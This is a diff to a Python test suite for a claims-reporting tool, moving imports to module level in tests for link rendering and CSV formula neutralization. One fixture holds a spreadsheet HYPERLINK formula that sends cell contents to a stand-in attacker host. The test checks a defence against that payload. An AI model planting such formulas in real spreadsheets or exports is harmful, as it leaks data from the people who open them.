@@ -20,12 +20,21 @@ from bs4 import BeautifulSoup
 from hypothesis import given
 from hypothesis import strategies as st
 
+from claimbook import store
 from claimbook.errors import RenderError
 from claimbook.params import BatchConfig, RenderConfig, ReportParams
 from claimbook.publish import batch, export, folders, naming
 from claimbook.report import charts
+from claimbook.report.html import LINKED_CHARS, link
+from claimbook.sources import register, review
 from claimbook.store import typed_claims
-from claimbook.store.csv_write import FORMULA_STARTS, neutralize_cell, neutralize_formulas
+from claimbook.store.csv_write import (
+    FORMULA_STARTS,
+    neutralize_cell,
+    neutralize_formulas,
+    neutralize_reversibly,
+    restore_cell,
+)
 from conftest import run_cli
 from datamaker import make_data
 from hostile import HOSTILE, LONG_WORD
@@ -279,8 +288,6 @@ def test_soft_breaks_split_only_long_words_of_text() -> None:
 
 @pytest.mark.parametrize("url", ["https://example.org/" + LONG_WORD, "http://x.example/" + "b" * 200])
 def test_a_long_address_is_shown_whole_and_linked_by_its_start(url: str) -> None:
-    from claimbook.report.html import LINKED_CHARS, link
-
     soup = BeautifulSoup(f"<li>{link(url)}</li>", "html.parser")
     a = soup.find("a")
     assert a["href"] == url and a["rel"] == ["noopener", "noreferrer"]
@@ -293,8 +300,6 @@ def test_a_long_address_is_shown_whole_and_linked_by_its_start(url: str) -> None
 
 @given(st.text(max_size=12))
 def test_review_cells_neutralize_and_restore_exactly(value: str) -> None:
-    from claimbook.store.csv_write import neutralize_reversibly, restore_cell
-
     written = neutralize_reversibly(value)
     assert not written.startswith(FORMULA_STARTS)
     assert restore_cell(written) == value
@@ -302,9 +307,6 @@ def test_review_cells_neutralize_and_restore_exactly(value: str) -> None:
 
 def test_a_formula_in_a_source_is_inert_in_the_review_file_and_accepted_verbatim(
         data_copy: Path, tmp_path: Path) -> None:
-    from claimbook import store
-    from claimbook.sources import register, review
-
     text = ('=HYPERLINK("https://evil.example/?"&A1,"Details") said the ministry on 3 '
             "September 2025.\n-5 degrees, the ministry said.\n")
     article = tmp_path / "a.txt"
